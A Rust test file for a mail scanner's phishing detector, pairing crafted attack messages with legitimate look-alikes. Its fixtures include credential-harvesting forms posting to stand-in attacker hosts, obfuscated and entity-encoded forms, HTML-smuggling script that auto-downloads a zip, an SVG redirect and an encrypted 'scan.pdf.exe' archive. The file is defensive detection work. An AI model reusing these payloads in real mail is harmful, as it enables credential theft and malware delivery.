//! Each rule on a message that uses its trick, and the legitimate messages
//! that resemble it (a newsletter about Microsoft, a receipt attached as a
//! page, a login form of the sender's own site, a brand's real mail).

use base64::Engine;

use super::*;
use crate::checks::test_support;
use crate::message::envelope::Direction;

fn scan(raw: &str) -> Vec<Finding> {
    let check = test_support::build("phishing", "");
    test_support::scan(&*check, raw.as_bytes(), "bounce@sender.example", Direction::Inbound)
}

fn tags(findings: &[Finding]) -> Vec<&str> {
    findings.iter().map(|f| f.tag.as_str()).collect()
}

fn b64(data: &[u8]) -> String {
    let text = base64::engine::general_purpose::STANDARD.encode(data);
    text.as_bytes()
        .chunks(76)
        .map(|c| String::from_utf8_lossy(c).into_owned())
        .collect::<Vec<_>>()
        .join("\r\n")
}

/// A message from `from` with a text body and one attachment.
fn with_attachment(from: &str, subject: &str, body: &str, name: &str, ctype: &str, data: &[u8]) -> String {
    format!(
        "From: {from}\r\nTo: anna@contoso.com\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n\
--b1\r\nContent-Type: {ctype}; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n\
Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--b1--\r\n",
        b64(data)
    )
}

fn html_mail(from: &str, subject: &str, html: &str) -> String {
    format!(
        "From: {from}\r\nTo: anna@contoso.com\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\n\
Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n"
    )
}

#[test]
fn a_sign_in_page_attached_is_credential_harvesting() {
    let page = r#"<html><body><form method="post" action="https://collect.evil.example/p.php">
<input name="login" type="email"><input name="pw" type="password"><button>Sign in</button></form></body></html>"#;
    let raw = with_attachment(
        "Payroll <pay@mailer.example>",
        "Salary statement",
        "See the attached statement.",
        "Statement.html",
        "application/octet-stream",
        page.as_bytes(),
    );
    let found = scan(&raw);
    let f = found
        .iter()
        .find(|f| f.tag == "credential-form-attachment")
        .unwrap_or_else(|| panic!("{found:#?}"));
    assert_eq!(f.score, 8.0, "attached page + off-site: {f:?}");
    assert!(f.reason.contains("collect.evil.example"), "{f:?}");
}

#[test]
fn a_form_written_by_script_from_escapes_is_seen() {
    let hidden = "%3Cform%20action%3D%22https%3A//x.evil.example/c%22%3E%3Cinput%20type%3D%22password%22%3E%3C/form%3E";
    let page = format!("<html><script>document.write(unescape('{hidden}'))</script></html>");
    let raw = with_attachment(
        "IT <it@mailer.example>",
        "Document",
        "Open it.",
        "Doc.htm",
        "text/html",
        page.as_bytes(),
    );
    let found = scan(&raw);
    assert!(tags(&found).contains(&"credential-form-attachment"), "{found:#?}");
    assert!(tags(&found).contains(&"attachment-obfuscated-script"), "{found:#?}");
}

/// Attributes written with character references are read as a browser reads
/// them (the view's tokenizer): the password field and where it posts are seen.
#[test]
fn a_password_field_written_with_character_references_is_seen() {
    let page = r#"<html><body><form method="post" action="https&#58;&#47;&#47;collect.evil.example/p.php">
<input name="login"><input name="pw" type="pass&#119;ord"><button>Sign in</button></form></body></html>"#;
    let raw = with_attachment(
        "Payroll <pay@mailer.example>",
        "Salary statement",
        "See the attached statement.",
        "Statement.html",
        "application/octet-stream",
        page.as_bytes(),
    );
    let found = scan(&raw);
    let f = found
        .iter()
        .find(|f| f.tag == "credential-form-attachment")
        .unwrap_or_else(|| panic!("{found:#?}"));
    assert!(f.reason.contains("collect.evil.example"), "{f:?}");
}

#[test]
fn a_login_form_of_the_senders_own_site_in_a_body_is_only_a_form() {
    let html =
        r#"<p>Members area</p><form action="https://www.sender.example/login"><input type=password name=p></form>"#;
    let found = scan(&html_mail("Club <news@sender.example>", "Club news", html));
    assert_eq!(tags(&found), ["credential-form"], "{found:#?}");
    assert!(found[0].score < 5.0);
}

#[test]
fn smuggling_and_redirects_in_attached_pages() {
    let smuggle = br#"<html><body><script>var d=atob('UEsDBBQAAAAIAA==');var a=new Uint8Array(d.length);
for(var i=0;i<d.length;i++){a[i]=d.charCodeAt(i);}var b=new Blob([a],{type:'application/zip'});
var l=document.createElement('a');l.href=URL.createObjectURL(b);l.download='invoice.zip';l.click();</script></body></html>"#;
    let raw = with_attachment(
        "A <a@mailer.example>",
        "Invoice",
        "Attached.",
        "Invoice.html",
        "text/html",
        smuggle,
    );
    let found = scan(&raw);
    assert_eq!(tags(&found), ["html-smuggling"], "{found:#?}");

    let svg = br#"<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[window.location.href=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUv");]]></script></svg>"#;
    let raw = with_attachment(
        "A <a@mailer.example>",
        "Fax",
        "Attached.",
        "fax.svg",
        "image/svg+xml",
        svg,
    );
    assert_eq!(tags(&scan(&raw)), ["attachment-redirect"]);
}

#[test]
fn a_static_page_attached_is_nothing() {
    let receipt = b"<html><body><h1>Receipt</h1><table><tr><td>Total</td><td>12.00 EUR</td></tr></table>\
<img src=\"data:image/png;base64,iVBORw0KGgo=\"></body></html>";
    let raw = with_attachment(
        "Shop <orders@shop.example>",
        "Your receipt",
        "Thanks.",
        "receipt.html",
        "text/html",
        receipt,
    );
    assert!(scan(&raw).is_empty(), "{:#?}", scan(&raw));
}

#[test]
fn brand_in_the_display_name_of_a_stranger_with_a_lure() {
    let html = r#"<p>Your password expires today. <a href="https://sso-check.example/login">Keep my password</a></p>"#;
    let found = scan(&html_mail(
        "\"Microsoft 365\" <no-reply@sso-check.example>",
        "Password expiry notice",
        html,
    ));
    assert!(tags(&found).contains(&"brand-impersonation"), "{found:#?}");
    assert!(tags(&found).contains(&"lure"), "{found:#?}");
    let total: f64 = found.iter().map(|f| f.score).sum();
    assert!(total >= 5.0, "{found:#?}");
}

#[test]
fn the_brands_own_mail_and_news_about_it_are_not_impersonation() {
    let html = r#"<p>Your password expires today. <a href="https://account.microsoft.com/">Keep it</a></p>"#;
    let own = scan(&html_mail(
        "\"Microsoft account team\" <account-security-noreply@accountprotection.microsoft.com>",
        "Password expiry",
        html,
    ));
    // The wording is a lure's, but nothing claims what it is not.
    assert!(tags(&own).iter().all(|t| *t == "lure"), "{own:#?}");
    assert!(own.iter().map(|f| f.score).sum::<f64>() < 5.0);
    let news = r#"<p>Microsoft released Office 365 updates this week; read the review.
<a href="https://news.example/office">more</a></p>"#;
    assert!(
        scan(&html_mail(
            "Tech News <editor@news.example>",
            "Microsoft ships Office 365 update",
            news
        ))
        .is_empty()
    );
}

#[test]
fn the_tenant_claimed_from_outside_and_a_bought_brand_domain() {
    let found = scan(&html_mail(
        "\"Contoso IT Helpdesk\" <it@helpdesk-mail.example>",
        "Mailbox quota",
        "<p>Your mailbox is full. <a href=\"https://paypal-secure.example/x\">Fix it now</a></p>",
    ));
    let t = tags(&found);
    assert!(t.contains(&"tenant-impersonation"), "{found:#?}");
    assert!(t.contains(&"brand-in-domain"), "{found:#?}");
}

/// A zip whose one entry is encrypted (flag bit 0), by its local header.
fn encrypted_zip() -> Vec<u8> {
    let name = b"scan.pdf.exe";
    let mut z = Vec::new();
    z.extend_from_slice(b"PK\x03\x04");
    z.extend_from_slice(&20u16.to_le_bytes());
    z.extend_from_slice(&1u16.to_le_bytes()); // encrypted
    z.extend_from_slice(&0u16.to_le_bytes()); // stored
    z.extend_from_slice(&[0; 8]); // time, date, crc
    z.extend_from_slice(&4u32.to_le_bytes());
    z.extend_from_slice(&4u32.to_le_bytes());
    z.extend_from_slice(&(name.len() as u16).to_le_bytes());
    z.extend_from_slice(&0u16.to_le_bytes());
    z.extend_from_slice(name);
    z.extend_from_slice(b"\x01\x02\x03\x04");
    z
}

#[test]
fn an_encrypted_archive_with_its_password_in_the_body() {
    let raw = with_attachment(
        "Accounts <ap@vendor.example>",
        "Invoice",
        "The invoice is attached.\r\nPassword: 4471\r\n",
        "invoice.zip",
        "application/zip",
        &encrypted_zip(),
    );
    let found = scan(&raw);
    assert_eq!(tags(&found), ["archive-password-in-body"], "{found:#?}");
    let raw = with_attachment(
        "Accounts <ap@vendor.example>",
        "Invoice",
        "The invoice is attached; call me for the key.",
        "invoice.zip",
        "application/zip",
        &encrypted_zip(),
    );
    assert!(scan(&raw).is_empty());
}

#[test]
fn an_attached_message_carries_its_lure() {
    let inner = with_attachment(
        "IT <it@mailer.example>",
        "Doc",
        "Open it.",
        "Doc.htm",
        "text/html",
        b"<form action='https://c.evil.example/'><input type=password></form>",
    );
    let raw = format!(
        "From: Bob <bob@partner.example>\r\nTo: anna@contoso.com\r\nSubject: FW: Doc\r\nMIME-Version: 1.0\r\n\
Content-Type: multipart/mixed; boundary=\"o\"\r\n\r\n--o\r\nContent-Type: text/plain\r\n\r\nFYI\r\n\
--o\r\nContent-Type: message/rfc822\r\n\r\n{inner}\r\n--o--\r\n"
    );
    assert!(
        tags(&scan(&raw)).contains(&"credential-form-attachment"),
        "{:#?}",
        scan(&raw)
    );
}

#[test]
fn dmarc_failure_makes_an_impersonation_worse() {
    let problems = crate::config::reader::Problems::default();
    let empty = toml::Table::new();
    let check = Phishing {
        scores: read_scores(&Section::root(&empty, &problems)),
    };
    let raw = html_mail(
        "\"PayPal\" <service@paypal-help.example>",
        "Account limited",
        "<p>Confirm your identity.</p>",
    );
    let judged = |dmarc| {
        test_support::with_input(raw.as_bytes(), "x@paypal-help.example", Direction::Inbound, |input| {
            let m = Material::gather(input);
            check.judge(&m, &input.tenant.domains, Direction::Inbound, dmarc)
        })
    };
    assert!(!tags(&judged(Some(AuthResult::Pass))).contains(&"auth-fail-with-lure"));
    assert!(tags(&judged(Some(AuthResult::Fail))).contains(&"auth-fail-with-lure"));
}

#[test]
fn scores_are_options() {
    let check = test_support::build("phishing", "score_html_smuggling = 0.0\nscore_brand_display_name = 9.0");
    let found = test_support::scan(
        &*check,
        html_mail("\"DocuSign\" <x@mailer.example>", "hello", "<p>hi</p>").as_bytes(),
        "x@mailer.example",
        Direction::Inbound,
    );
    assert_eq!(found[0].score, 9.0);
    assert!(
        test_support::build_errors("phishing", "score_lure = \"high\"")
            .iter()
            .any(|e| e.starts_with("score_lure"))
    );
}

#[test]
fn advance_fee_fraud_needs_several_cues() {
    let body = "Dear friend, I am a barrister. My late client left 15 million US dollars in a dormant account \
and you will be named next of kin and beneficiary. Keep this strictly confidential.";
    let raw = format!(
        "From: Dr. John <john@mail.example>\r\nTo: anna@contoso.com\r\nSubject: Urgent business\r\n\r\n{body}\r\n"
    );
    assert!(tags(&scan(&raw)).contains(&"advance-fee"), "{:#?}", scan(&raw));
    let estate = "From: Lawyer <l@firm.example>\r\nTo: anna@contoso.com\r\nSubject: Estate\r\n\r\n\
You are a beneficiary of your aunt's estate; the papers are attached.\r\n";
    assert!(!tags(&scan(estate)).contains(&"advance-fee"));
}

/// A brand named in the subject or opening text counts only with a lure and
/// somewhere to go that is not the brand's; a mention alone is news.
#[test]
fn a_brand_claimed_in_the_text_needs_a_lure() {
    let found = scan(&html_mail(
        "Accounts <billing@invoices-mail.example>",
        "Your PayPal account",
        "<p>Your PayPal account has been suspended. Action required: \
<a href=\"https://secure-review.example/restore\">restore access</a></p>",
    ));
    let t = tags(&found);
    assert!(t.contains(&"brand-lure") && t.contains(&"lure"), "{found:#?}");
    let f = found.iter().find(|f| f.tag == "brand-lure").unwrap();
    assert!(
        f.reason.contains("PayPal") && f.reason.contains("invoices-mail.example"),
        "{f:?}"
    );
    let mention = scan(&html_mail(
        "Shop <orders@shop.example>",
        "Your order",
        "<p>Thanks for paying with PayPal. <a href=\"https://shop.example/order/1\">Your order</a></p>",
    ));
    assert!(mention.is_empty(), "{mention:#?}");
}

/// An attached page that only runs script is the weakest activity; a body's
/// script is never judged (mail clients do not run it).
#[test]
fn script_in_an_attached_page_and_in_a_body() {
    let page = b"<html><body><p>Statement</p><script>var total = 12;</script></body></html>";
    let raw = with_attachment(
        "Shop <orders@shop.example>",
        "Statement",
        "Attached.",
        "statement.html",
        "text/html",
        page,
    );
    assert_eq!(tags(&scan(&raw)), ["attachment-script"], "{:#?}", scan(&raw));
    let body = scan(&html_mail(
        "Shop <orders@shop.example>",
        "Statement",
        "<p>Statement</p><script>var total = 12;</script>",
    ));
    assert!(body.is_empty(), "{body:#?}");
}

/// A calendar invitation is read like the message (its folded lines joined):
/// lure wording split over its lines still counts.
#[test]
fn an_invitation_carries_its_lure() {
    let ics = "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Security review\r\n\
DESCRIPTION:Verify your acc\r\n ount within 24\r\n  hours or it will be closed.\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";
    let raw = with_attachment(
        "Calendar <meet@invites.example>",
        "Meeting",
        "See the invitation.",
        "invite.ics",
        "text/calendar",
        ics.as_bytes(),
    );
    let found = scan(&raw);
    let lure = found
        .iter()
        .find(|f| f.tag == "lure")
        .unwrap_or_else(|| panic!("{found:#?}"));
    assert!(
        lure.reason.contains("verify your account") && lure.reason.contains("within 24 hours"),
        "{lure:?}"
    );
}

/// A named HTML body part is also an attachment (the view reads it as both):
/// it is judged once, as the page a reader opens.
#[test]
fn a_named_html_body_is_judged_once_as_an_attached_page() {
    let raw = "From: IT <it@mailer.example>\r\nTo: anna@contoso.com\r\nSubject: Doc\r\nMIME-Version: 1.0\r\n\
Content-Type: text/html; charset=utf-8; name=\"Doc.html\"\r\n\r\n\
<form action=\"https://www.mailer.example/login\"><input type=password></form>\r\n";
    let found = scan(raw);
    assert_eq!(tags(&found), ["credential-form-attachment"], "{found:#?}");
}
